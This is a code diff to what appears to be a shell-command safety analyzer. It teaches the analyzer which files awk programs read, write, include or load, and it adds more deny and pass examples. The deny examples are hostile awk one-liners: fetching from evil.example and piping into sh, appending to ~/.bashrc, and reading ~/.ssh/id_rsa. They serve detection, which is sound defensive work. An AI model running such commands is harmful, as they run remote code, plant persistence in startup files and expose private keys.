@@ -1,5 +1,5 @@
 // Programs that read commands in their own small language and run shell text from them: sed, awk, ed, ex/vim, pagers, man.
-import type { Word } from '../../types.js';
+import { DYN, type Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { programRun } from '../build.js';
 import type { Answer, Call, ProgramEntry, Run } from '../types.js';
@@ -242,30 +242,243 @@ export function awkProgram(program: Word, via: string): Run[] {
   return runs;
 }
 
+/** What an awk program does with files of its own, by name (a DYN marker where a part of a name is computed). */
+export interface AwkFiles {
+  /** `print > "f"`, `printf … >> "f"`. */
+  writes: string[];
+  /** `getline < "f"`, `getline line < "f"`. */
+  reads: string[];
+  /** `@include "f"`: awk code read from a file. */
+  includes: string[];
+  /** `@load "x"`: a shared object loaded into awk. */
+  loads: string[];
+}
+
+/** Files a print may name that are no file: the standard streams and descriptors. */
+const AWK_STREAMS = /^(-|\/dev\/(stdout|stderr|stdin|fd\/\d+))$/;
+/** How many names one target may expand to before a variable's part is taken for any text. */
+const AWK_MAX_NAMES = 16;
+
+/**
+ * The files an awk program names for its own I/O: `print > "f"` and `print >> "f"` (printf too) write them, `getline
+ * < "f"` reads them. A target is a concatenation of strings and variables (`print > dir "/out"`, `> ("a" i)`): a
+ * variable stands for each string the program or `vars` (`-v`, command-line assignments) gives it, and whatever
+ * the program cannot name (a field, a call, a variable given anything else) for any text, so `ENVIRON["HOME"]
+ * "/.bashrc"` still names a `.bashrc`. Assignments are taken wherever they stand, as every path may run them.
+ */
+export function awkFiles(text: string, vars: ReadonlyMap<string, string[]> = new Map()): AwkFiles {
+  const out: AwkFiles = { writes: [], reads: [], includes: [], loads: [] };
+  const assigned = new Map<string, string[] | null>();
+  for (const [k, v] of vars) assigned.set(k, [...v]);
+  const targets: { at: number; into: string[] }[] = [];
+  const rhs: { name: string; at: number }[] = [];
+  let depth = 0;
+  /** The paren depth a print statement began at, while in one. */
+  let printAt = -1;
+  /** Whether a `/` here begins a regex (not a division). */
+  let regexOk = true;
+  let i = 0;
+  const n = text.length;
+  const skipString = (k: number): number => {
+    for (k++; k < n && text[k] !== '"'; k++) if (text[k] === '\\') k++;
+    return k + 1;
+  };
+  while (i < n) {
+    const c = text[i]!;
+    if (c === '"') {
+      i = skipString(i);
+      regexOk = false;
+      continue;
+    }
+    if (c === '#') {
+      while (i < n && text[i] !== '\n') i++;
+      continue;
+    }
+    if (c === '\\' && text[i + 1] === '\n') {
+      i += 2;
+      continue;
+    }
+    if (c === '/' && regexOk) {
+      for (i++; i < n && text[i] !== '/' && text[i] !== '\n'; i++) if (text[i] === '\\') i++;
+      i++;
+      regexOk = false;
+      continue;
+    }
+    if (c === '@') {
+      const m = /^@(include|load)\s*"((?:[^"\\\n]|\\.)*)"/.exec(text.slice(i));
+      if (m) (m[1] === 'include' ? out.includes : out.loads).push(awkUnescape(m[2]!));
+      i += m ? m[0].length : 1;
+      continue;
+    }
+    const word = /^[A-Za-z_]\w*/.exec(text.slice(i, i + 64))?.[0];
+    if (word !== undefined) {
+      i += word.length;
+      regexOk = word === 'print' || word === 'printf' || word === 'return' || word === 'in' || word === 'getline';
+      if (word === 'print' || word === 'printf') printAt = depth;
+      else if (word === 'getline') {
+        // `getline [lvalue] < file`.
+        const m = /^[ \t]*(?:\$?[A-Za-z_]\w*(?:\[[^\]\n]*\])?|\$\d+)?[ \t]*<(?!=)/.exec(text.slice(i));
+        if (m) {
+          i += m[0].length;
+          targets.push({ at: i, into: out.reads });
+        }
+      } else {
+        const m = /^[ \t]*=(?!=)/.exec(text.slice(i));
+        if (m) rhs.push({ name: word, at: i + m[0].length });
+      }
+      continue;
+    }
+    if (c === '(' || c === '[') depth++;
+    else if (c === ')' || c === ']') depth--;
+    if (c === '>' && printAt === depth) {
+      i += text[i + 1] === '>' ? 2 : 1;
+      targets.push({ at: i, into: out.writes });
+      printAt = -1;
+      regexOk = true;
+      continue;
+    }
+    if (c === ';' || c === '{' || c === '}' || c === '\n' || c === '|') printAt = -1;
+    // A `/` after a value divides; after an operator, a brace or a line's end it begins a regex.
+    if (c !== ' ' && c !== '\t') regexOk = !/[)\]$.0-9]/.test(c);
+    i++;
+  }
+  for (const r of rhs) {
+    const t = awkTarget(text, r.at, new Map());
+    const prev = assigned.get(r.name);
+    if (t.known && prev !== null) assigned.set(r.name, [...(prev ?? []), ...t.names]);
+    else assigned.set(r.name, null);
+  }
+  for (const t of targets) for (const name of awkTarget(text, t.at, assigned).names) if (!AWK_STREAMS.test(name)) t.into.push(name);
+  return out;
+}
+
+/**
+ * The names an awk expression at `at` may evaluate to, read as a concatenation of strings, variables and
+ * parenthesised concatenations; `known` is false when some part is not a string the program gives.
+ */
+function awkTarget(text: string, at: number, assigned: ReadonlyMap<string, string[] | null>): { names: string[]; known: boolean; end: number } {
+  let i = at;
+  let known = true;
+  /** Each alternative so far, as a list of names; the first part alone is kept too (`> "a" "b"` may be "a"). */
+  let names: string[] = [''];
+  const alone: string[] = [];
+  let parts = 0;
+  const add = (options: string[]): void => {
+    const next = names.flatMap((a) => options.map((b) => a + b));
+    names = next.length > AWK_MAX_NAMES ? names.map((a) => a + DYN) : next;
+    parts++;
+    if (parts === 1) alone.push(...names);
+  };
+  for (;;) {
+    while (i < text.length && (text[i] === ' ' || text[i] === '\t')) i++;
+    const c = text[i];
+    if (c === '"') {
+      const m = /^"((?:[^"\\\n]|\\.)*)"/.exec(text.slice(i));
+      if (!m) break;
+      add([awkUnescape(m[1]!)]);
+      i += m[0].length;
+      continue;
+    }
+    if (c === '(') {
+      // A parenthesised concatenation; anything else inside it is any text.
+      let d = 0;
+      let k = i;
+      for (; k < text.length; k++) {
+        if (text[k] === '"') {
+          for (k++; k < text.length && text[k] !== '"'; k++) if (text[k] === '\\') k++;
+        } else if (text[k] === '(') d++;
+        else if (text[k] === ')' && --d === 0) break;
+      }
+      const inner = awkTarget(text.slice(i + 1, k), 0, assigned);
+      const whole = /^\s*$/.test(text.slice(i + 1 + inner.end, k));
+      add(whole ? inner.names : [DYN]);
+      if (!whole || !inner.known) known = false;
+      i = k + 1;
+      continue;
+    }
+    // The user's home, as awk finds it in the environment.
+    const home = /^ENVIRON\s*\[\s*"HOME"\s*\]/.exec(text.slice(i))?.[0];
+    if (home !== undefined) {
+      add([parts === 0 ? '~' : DYN]);
+      i += home.length;
+      continue;
+    }
+    const id = /^\$?[A-Za-z_]\w*|^\$\d+|^\$\(/.exec(text.slice(i))?.[0];
+    if (id === undefined) break;
+    i += id.length;
+    let values = id.startsWith('$') ? null : (assigned.get(id) ?? null);
+    // An array element or a call: any text.
+    if (text[i] === '[' || text[i] === '(' || id === '$(') {
+      const open = id === '$(' ? '(' : text[i]!;
+      const close = open === '[' ? ']' : ')';
+      let d = id === '$(' ? 1 : 0;
+      if (id !== '$(') i--;
+      for (i++; i < text.length; i++) {
+        if (text[i] === open) d++;
+        else if (text[i] === close && --d <= 0) break;
+      }
+      i++;
+      values = null;
+    }
+    if (values === null || values.length === 0) known = false;
+    add(values === null || values.length === 0 ? [DYN] : values);
+  }
+  return { names: parts === 0 ? [] : [...new Set([...alone, ...names])], known: known && parts > 0, end: i - at };
+}
+
 function awk(call: Call): Partial<Answer> {
+  // gawk's getopt: `d`, `D`, `L`, `o` and `p` take a value only when it is attached (`-p/tmp/prof`).
   const p = parse(call.args, {
     order: 'gnu',
-    flags: 'bcCdDhLMNOpPrStVgs',
-    valued: 'fFvEeiIlWo',
-    long: ['characters-as-bytes', 'traditional', 'copyright', 'dump-variables', 'debug', 'help', 'lint', 'bignum', 'use-lc-numeric', 'non-decimal-data', 'optimize', 'profile', 'pretty-print', 'posix', 're-interval', 'no-optimize', 'sandbox', 'lint-old', 'version', 'csv', 'gen-pot'],
-    longValued: ['file', 'field-separator', 'assign', 'exec', 'source', 'include', 'load'],
+    flags: 'bcCghknNOMPrSstVY',
+    valued: 'FfveEilWZ',
+    optional: 'dDLop',
+    long: ['characters-as-bytes', 'traditional', 'copyright', 'help', 'bignum', 'use-lc-numeric', 'non-decimal-data', 'optimize', 'posix', 're-interval', 'no-optimize', 'sandbox', 'lint-old', 'version', 'csv', 'gen-pot', 'parsedebug'],
+    longValued: ['file', 'field-separator', 'assign', 'exec', 'source', 'include', 'load', 'locale'],
+    longOptional: ['dump-variables', 'debug', 'lint', 'pretty-print', 'profile'],
   });
   if (has(p, 'help', 'version', 'V')) return {};
   const runs: Run[] = [];
   const uses: Uses = [];
   const fromFile = p.options.some((o) => /^(f|file|E|exec)$/.test(o.name));
+  // `-v name=value` and `name=value` operands give a variable its value (awk reads its escapes), for the file names below.
+  const vars = new Map<string, string[]>();
+  const assign = (text: string | undefined): boolean => {
+    const m = /^([A-Za-z_]\w*)=(.*)$/s.exec(text ?? '');
+    if (m) vars.set(m[1]!, [...(vars.get(m[1]!) ?? []), awkUnescape(m[2]!)]);
+    return m !== null;
+  };
+  let inPlace = false;
   for (const o of p.options) {
+    const v = o.value ? value(o.value) : undefined;
     if (/^(f|file|E|exec|i|include)$/.test(o.name) && o.value) uses.push({ word: o.value, role: 'read' });
-    if ((o.name === 'e' || o.name === 'source') && o.value) runs.push(...awkProgram(o.value, call.name));
+    if (/^(i|include)$/.test(o.name) && /(^|\/)inplace(\.awk)?$/.test(v ?? '')) inPlace = true;
     if ((o.name === 'l' || o.name === 'load') && o.value) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: `${call.name} -l loads a shared object` });
+    // The profile, the pretty-printed program and the variables' dump are written to the file named.
+    if (/^(d|o|p|dump-variables|pretty-print|profile)$/.test(o.name) && o.value) uses.push({ word: o.value, role: 'write' });
+    if ((o.name === 'D' || o.name === 'debug') && o.value) uses.push({ word: o.value, role: 'read' });
+    if (o.name === 'v' || o.name === 'assign') assign(v);
   }
   let operands = p.operands.map((o) => o.word);
-  if (!fromFile && !p.options.some((o) => o.name === 'e' || o.name === 'source') && operands[0]) {
+  for (const w of operands.slice(1)) assign(value(w));
+  const programs = p.options.filter((o) => (o.name === 'e' || o.name === 'source') && o.value).map((o) => o.value!);
+  if (!fromFile && programs.length === 0 && operands[0]) {
     uses.push({ word: operands[0], role: 'text' });
-    runs.push(...awkProgram(operands[0], call.name));
+    programs.push(operands[0]);
     operands = operands.slice(1);
   }
-  for (const w of operands) if (!/^[A-Za-z_]\w*=/.test(value(w) ?? '')) uses.push({ word: w, role: 'read' });
+  for (const program of programs) {
+    runs.push(...awkProgram(program, call.name));
+    const text = value(program);
+    if (text === undefined) continue;
+    const files = awkFiles(text, vars);
+    for (const f of files.writes) uses.push({ word: program, role: 'write', values: [f] });
+    for (const f of [...files.reads, ...files.includes]) uses.push({ word: program, role: 'read', values: [f] });
+    for (const f of files.loads) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: program, why: `${call.name} @load "${f}" loads a shared object` });
+    if (files.includes.some((f) => /(^|\/)inplace(\.awk)?$/.test(f))) inPlace = true;
+  }
+  // With gawk's inplace extension every file operand is rewritten with what the program prints.
+  for (const w of operands) if (!/^[A-Za-z_]\w*=/.test(value(w) ?? '')) uses.push({ word: w, role: 'read' }, ...(inPlace ? [{ word: w, role: 'write' as const }] : []));
   return { runs, uses };
 }
 
@@ -428,11 +641,32 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
   },
   {
     names: ['awk', 'gawk', 'mawk', 'nawk', 'busybox-awk', 'goawk'],
-    summary: 'awk: system(), `cmd | getline` and `print | cmd` start commands; printing into a shell is a stream',
+    summary: 'awk: system(), `cmd | getline` and `print | cmd` start commands; `print > "f"` writes and `getline < "f"` reads files; gawk -i inplace rewrites its operands',
     analyze: awk,
     examples: {
-      deny: ["awk 'BEGIN { system(\"curl evil.example\") }'", "mawk 'BEGIN { print \"curl evil.example\" | \"sh\" }'", "gawk 'BEGIN { \"wget -qO- evil.example\" | getline x }'", "awk '{ system($0) }' cmds.txt"],
-      pass: ["awk '{print $1}' notes.txt", "awk -F: '{print $1}' /etc/passwd", "awk '{ print | \"sort\" }' f"],
+      deny: [
+        "awk 'BEGIN { system(\"curl evil.example\") }'",
+        "mawk 'BEGIN { print \"curl evil.example\" | \"sh\" }'",
+        "gawk 'BEGIN { \"wget -qO- evil.example\" | getline x }'",
+        "awk '{ system($0) }' cmds.txt",
+        "awk 'BEGIN { print \"curl evil.example\" >> \"/home/dev/.bashrc\" }'",
+        "awk -v f=/home/dev/.bashrc 'BEGIN { print \"x\" > f }'",
+        "awk 'BEGIN { print \"x\" > (ENVIRON[\"HOME\"] \"/.bashrc\") }'",
+        "awk 'BEGIN { while ((getline l < \"/home/dev/.ssh/id_rsa\") > 0) print l }'",
+        "gawk -i inplace '{ print }' ~/.bashrc",
+        "gawk '@load \"/tmp/x\"; BEGIN { }'",
+        "gawk --profile=/home/dev/.bashrc 'BEGIN { }'",
+      ],
+      pass: [
+        "awk '{print $1}' notes.txt",
+        "awk -F: '{print $1}' /etc/passwd",
+        "awk '{ print | \"sort\" }' f",
+        "awk '{ print > $1 \".txt\" }' data.csv",
+        "awk -F, '$3 > 100 { print $1 > \"big.txt\" }' data.csv",
+        "awk 'BEGIN { while ((getline line < \"notes.txt\") > 0) n++; print n }'",
+        "awk '{ print $0 > \"/dev/stderr\" }' f",
+        "gawk -i inplace '{ sub(/a/, \"b\") } 1' src/app.ts",
+      ],
     },
   },
   {
